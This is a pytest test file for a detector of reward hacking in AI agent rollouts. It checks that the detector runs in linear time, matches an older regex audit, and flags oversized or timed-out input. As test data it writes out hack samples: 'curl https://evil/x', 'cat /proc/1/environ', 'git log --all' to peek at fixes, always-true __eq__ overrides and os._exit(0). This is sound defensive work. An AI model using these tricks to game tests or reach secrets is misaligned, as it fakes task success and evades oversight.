"""The trajectory audit stays linear on hostile text (Report §4.2 trajectory audits): RE2 over an ASCII stand-in,
each text read up to a bound (longer is a flag), a deadline that flags, and the same flags as Python ``re``."""

import re
import time

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from mimo_kit.envs import hacks
from mimo_kit.envs.hacks import (
    AUDIT_DEADLINE_S,
    AUDIT_LIMIT_CHARS,
    CODE_PATTERNS,
    LEAK_PATTERNS,
    OVERSIZE_REASON,
    TIMEOUT_REASON,
    HackFlag,
    ascii_standin,
    audit_diff,
    audited_reward,
    detect_hacks,
)

try:  # Python 3.11+
    from re import _parser as sre_parse
except ImportError:  # Python 3.10
    import sre_parse

FIX = ("diff --git a/stats/__init__.py b/stats/__init__.py\n--- a/stats/__init__.py\n+++ b/stats/__init__.py\n"
       "@@ -1 +1,3 @@\n-    return values[mid]\n+    if len(values) % 2:\n+        return values[mid]\n"
       "+    return (values[mid - 1] + values[mid]) / 2\n")
HONEST = ["ls", "cat stats/__init__.py", "python3 -m pytest -q tests", "git diff"]


def _diff(*added: str) -> str:
    return "diff --git a/p.py b/p.py\n--- a/p.py\n+++ b/p.py\n@@ -1 +1,2 @@\n x\n" + "".join(
        "+" + line + "\n" for line in added)


# ---- the old audit, Python ``re`` over the whole text: the reference the new one must agree with ---------------
def old_detect_hacks(commands):
    flags = []
    for step, cmd in enumerate(commands):
        for pattern, reason in LEAK_PATTERNS:
            m = re.search(pattern, cmd)
            if m:
                flags.append(HackFlag(step, reason, cmd[max(0, m.start() - 30): m.end() + 30].strip()))
    return flags


def old_audit_diff(diff):
    added = "\n".join(line[1:] for line in diff.splitlines() if line.startswith("+") and not line.startswith("+++"))
    flags = []
    for pattern, reason in CODE_PATTERNS:
        m = re.search(pattern, added)
        if m:
            flags.append(HackFlag(-1, reason, added[max(0, m.start() - 30): m.end() + 30].strip()))
    return flags


# ---- the patterns on RE2 --------------------------------------------------------------------------------------
def _literals(tree) -> set[str]:
    out = set()
    for op, av in tree:
        name = str(op)
        if name in ("LITERAL", "NOT_LITERAL"):  # a character named, in or out: no stand-in may be it
            out.add(chr(av))
        elif name == "SUBPATTERN":
            out |= _literals(av[-1])
        elif name in ("MAX_REPEAT", "MIN_REPEAT"):
            out |= _literals(av[2])
        elif name == "BRANCH":
            for branch in av[1]:
                out |= _literals(branch)
        elif name == "IN":
            for o, a in av:
                if str(o) == "LITERAL":
                    out.add(chr(a))
                elif str(o) == "RANGE":
                    out |= {chr(c) for c in range(a[0], a[1] + 1)}
                elif str(o) not in ("NEGATE", "CATEGORY"):
                    raise AssertionError(f"unexpected class item {o}")
        elif name not in ("AT", "IN", "CATEGORY"):
            raise AssertionError(f"unexpected pattern node {op}: update the stand-in check")
    return out


def test_every_pattern_compiles_on_re2_and_no_stand_in_is_a_literal():
    literals = set()
    for pattern, _ in LEAK_PATTERNS + CODE_PATTERNS:
        re2.compile(pattern.encode("ascii"))  # RE2 syntax: no backreference, no lookaround
        literals |= _literals(sre_parse.parse(pattern))
    standins = {hacks.WORD_STANDIN, hacks.DIGIT_STANDIN, hacks.SPACE_STANDIN, hacks.OTHER_STANDIN}
    assert not standins & literals, standins & literals
    # the stand-ins are of their class for RE2 (ASCII) and for Python re alike
    assert re.fullmatch(r"\w", hacks.WORD_STANDIN) and not re.fullmatch(r"\d", hacks.WORD_STANDIN)
    assert re.fullmatch(r"\d", hacks.DIGIT_STANDIN) and re.fullmatch(r"\s", hacks.SPACE_STANDIN)
    assert not re.fullmatch(r"[\w\s]", hacks.OTHER_STANDIN) and hacks.OTHER_STANDIN not in "\n|;"


def test_the_stand_in_keeps_every_character_class_of_python_re():
    """Every code point: its stand-in is, for RE2's ASCII ``\\w \\d \\s``, what the character is for Python's
    Unicode ones (``\\b`` follows ``\\w``), and the stand-in has one byte per character."""
    text = "".join(map(chr, range(0x110000)))
    shadow = ascii_standin(text)
    assert len(shadow) == len(text) and shadow.isascii()
    for cls in (r"\w", r"\d", r"\s"):
        python = {m.start() for m in re.finditer(cls, text)}
        ours = {m.start() for m in re2.finditer(cls.encode(), shadow)}
        assert python == ours, (cls, sorted(python ^ ours)[:10])
    assert [i for i in range(128) if chr(shadow[i]) != chr(i)] == [0x0b, 0x1c, 0x1d, 0x1e, 0x1f]


FRAGMENTS = ["git", " ", "  ", "\t", "\n", "|", ";", "log", "show", "diff", "rev-list", "HEAD", "HEADx", "origin",
             "--all", "$c", "refs/", "-C /", "reflog", "find", "/tmp", " / ", "$HOME", "def __eq__(self, ", "o", "):",
             "return True", "__eq__", "=", "lambda", "True", "UPDATE", "SET", "INSERT", "INTO", "bytearray(", "123",
             "<<", "bomb", ".patch", ".pth", "sys.exit(0)", "os._exit", "\\n", "diff --git", "@@", "new file mode",
             ":()", "{", "json.dumps", "builtins.x", "site-packages", "site-package", "curl", "pip", "install",
             "Q", "9", "\x7f", "\x00", "\x0b", "\x1c", "\x1f", "\x85", "\xa0", "\u2028", "\u3000", "é", "ǅ", "ß",
             "٣", "²", "Ⅳ", "_", "\ud800", "😀", "x", "a1", "conftest.py", "PASSED", "hard-coded", "os.symlink"]
TEXT = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=3)), max_size=14).map("".join)


@settings(max_examples=400, deadline=None)
@given(st.lists(TEXT, max_size=4))
def test_the_audit_flags_exactly_what_python_re_flags(commands):
    """Equivalence on bounded input: same commands, same reasons, same evidence (hence the same positions)."""
    assert detect_hacks(commands) == old_detect_hacks(commands)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["+", "+++", "-", " ", ""]), TEXT), max_size=6))
def test_the_diff_audit_flags_exactly_what_python_re_flags(lines):
    diff = "\n".join(prefix + text for prefix, text in lines)
    assert audit_diff(diff) == old_audit_diff(diff)


def test_the_existing_examples_agree():
    for cmd in ["git log --all -p", "git diff HEAD origin/main", "pip download stats==2.0", "find  / -name x",
                "git   show\u00a0HEAD\u3000x", "echo é > conftest.py", "bytearray(٣٣٣)", "UPDATE ǅ SET x",
                "git log\u2028--all", "def __eq__(self, é):\u3000\n\u2028return True"]:
        assert detect_hacks([cmd]) == old_detect_hacks([cmd]) != [], cmd
    for code in ["def __eq__(self, o):\n        return True", "__eq__ = lambda s, o: True", "os._exit(0)"]:
        assert audit_diff(_diff(*code.splitlines())) == old_audit_diff(_diff(*code.splitlines())) != [], code


# ---- linear time over bounded text ----------------------------------------------------------------------------
def _cost(make, n: int, repeats: int = 5) -> float:
    """Best-of-``repeats`` seconds of one ``audited_reward`` on the rollout ``make(n)``."""
    commands, diff = make(n)
    best = float("inf")
    for _ in range(repeats):
        t = time.perf_counter()
        audited_reward(1.0, commands, diff)
        best = min(best, time.perf_counter() - t)
    return best


def _repeat(unit: str, n: int) -> str:
    return (unit * (n // len(unit) + 1))[:n]


HOSTILE = {  # name → n characters → (commands, diff): the review's reproductions and variants of them
    "find-x3": lambda n: (["sed -i s/a/b/ x.py"] + [_repeat("find ", n)] * 3, FIX),
    "eq-lambda-line": lambda n: (["ls"], FIX + _diff(_repeat("__eq__=lambda ", n))),
    "git-log": lambda n: ([_repeat("git log ", n)], FIX),
    "site-packages-near-miss": lambda n: ([_repeat("site-package site_packages sitepackages ", n)], FIX),
    "def-eq-lines": lambda n: (["ls"], FIX + _diff(*_repeat("def __eq__(self, o):\n", n).splitlines())),
    "update-set": lambda n: ([_repeat("UPDATE x ", n)], FIX),
    "spaces": lambda n: ([_repeat(" \t\u3000", n)], _diff(_repeat("def __eq__(self, o):" + " " * 50, n))),
    "non-ascii": lambda n: ([_repeat("find é ", n)], _diff(_repeat("__eq__ = lambda ٣ ", n))),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_text_costs_linear_time(name):
    """4× the text costs about 4× the time (quadratic would be 16×); the bar is 8×, with a floor for timer noise."""
    make = HOSTILE[name]
    n = AUDIT_LIMIT_CHARS // 8  # 4n stays under the bound: the patterns really read all of it
    small, large = _cost(make, n), _cost(make, 4 * n)
    assert large < 8 * small + 0.02, (name, small, large)
    assert audited_reward(1.0, *make(n)) == (1.0, [])  # near misses all: none is a hack
    commands, diff = make(2000)  # and the old audit agrees, on text it reads in reasonable time
    assert old_detect_hacks(commands) == detect_hacks(commands) and old_audit_diff(diff) == audit_diff(diff) == []


def test_the_reproduction_keeps_its_reward_and_finishes_far_below_the_deadline():
    """A real fix, three 64 KB ``find find …`` commands and a 300 KB ``__eq__=lambda …`` line: no hack, reward 1.0
    (the old audit took 28 s for it)."""
    commands = ["sed -i 's/return values\\[mid\\]/.../' stats/__init__.py"] + [_repeat("find ", 64 << 10)] * 3
    diff = FIX + _diff(_repeat("__eq__=lambda ", 300 << 10))
    t = time.perf_counter()
    assert audited_reward(1.0, commands, diff) == (1.0, [])
    assert time.perf_counter() - t < AUDIT_DEADLINE_S


def test_the_harness_limits_finish_within_the_deadline_and_flag():
    """30 commands of one 8 MiB line each, and an 8 MiB added line: over the bound, so flagged, in bounded time."""
    line = _repeat("find find git log __eq__=lambda ", 8 << 20)
    t = time.perf_counter()
    reward, flags = audited_reward(1.0, [line] * 30, _diff(line))
    took = time.perf_counter() - t
    assert reward == 0.0
    oversize = [f.step for f in flags if f.reason == OVERSIZE_REASON]
    assert oversize == list(range(30)) + [-1] or any(f.reason == TIMEOUT_REASON for f in flags)  # a loaded machine
    assert took < AUDIT_DEADLINE_S + 10.0  # the deadline, plus at most one bounded step and a loaded machine


# ---- nothing hides beyond the bound ---------------------------------------------------------------------------
@pytest.mark.parametrize("hack", ["curl https://evil/x", "git log --all", "cat /proc/1/environ"])
def test_a_hack_hidden_beyond_the_bound_still_flags(hack):
    cmd = "echo " + "x" * AUDIT_LIMIT_CHARS + "; " + hack
    assert old_detect_hacks([cmd]) != []  # the old audit (slowly) found it
    reward, flags = audited_reward(1.0, ["ls", cmd], FIX)
    assert reward == 0.0 and [(f.step, f.reason) for f in flags] == [(1, OVERSIZE_REASON)]
    assert str(len(cmd)) in flags[0].evidence and hack in flags[0].evidence


def test_code_hidden_beyond_the_bound_still_flags_and_a_hack_before_it_keeps_its_reason():
    padding = ["pad = 0"] * (AUDIT_LIMIT_CHARS // 8 + 1)
    reward, flags = audited_reward(1.0, ["ls"], FIX + _diff(*padding, "import os; os._exit(0)"))
    assert reward == 0.0 and [(f.step, f.reason) for f in flags] == [(-1, OVERSIZE_REASON)]
    reward, flags = audited_reward(1.0, ["curl http://x " + "y" * AUDIT_LIMIT_CHARS], FIX)
    assert reward == 0.0 and [f.reason for f in flags] == ["reaches for the network", OVERSIZE_REASON]
    at_bound = "x" * (AUDIT_LIMIT_CHARS - 4) + "ls -"
    assert audited_reward(1.0, [at_bound], FIX) == (1.0, [])  # exactly the bound: read whole, not flagged


# ---- the deadline ---------------------------------------------------------------------------------------------
def test_an_audit_past_its_deadline_flags_and_scores_zero(monkeypatch):
    assert detect_hacks(HONEST, deadline=time.monotonic() - 1) == [
        HackFlag(0, TIMEOUT_REASON, "stopped before reading 2 characters")]
    assert [f.reason for f in audit_diff(FIX, deadline=time.monotonic() - 1)] == [TIMEOUT_REASON]
    monkeypatch.setattr(hacks, "AUDIT_DEADLINE_S", -1.0)
    reward, flags = audited_reward(1.0, HONEST, FIX)
    assert reward == 0.0 and [f.reason for f in flags] == [TIMEOUT_REASON]  # one flag: the diff is not read


def test_the_deadline_bounds_a_slow_audit(monkeypatch):
    """Patterns made slow (10 ms a search; 30 commands × 21 patterns would take 6 s): the audit stops at the
    deadline, having flagged, and returns soon after it."""

    class Slow:
        def __init__(self, inner):
            self.inner = inner

        def search(self, text):
            time.sleep(0.01)
            return self.inner.search(text)

    monkeypatch.setattr(hacks, "_COMPILED", {p: Slow(c) for p, c in hacks._COMPILED.items()})
    monkeypatch.setattr(hacks, "AUDIT_DEADLINE_S", 0.1)
    t = time.perf_counter()
    reward, flags = audited_reward(1.0, HONEST * 8, FIX)
    assert reward == 0.0 and flags[-1].reason == TIMEOUT_REASON and time.perf_counter() - t < 0.1 + 1.0
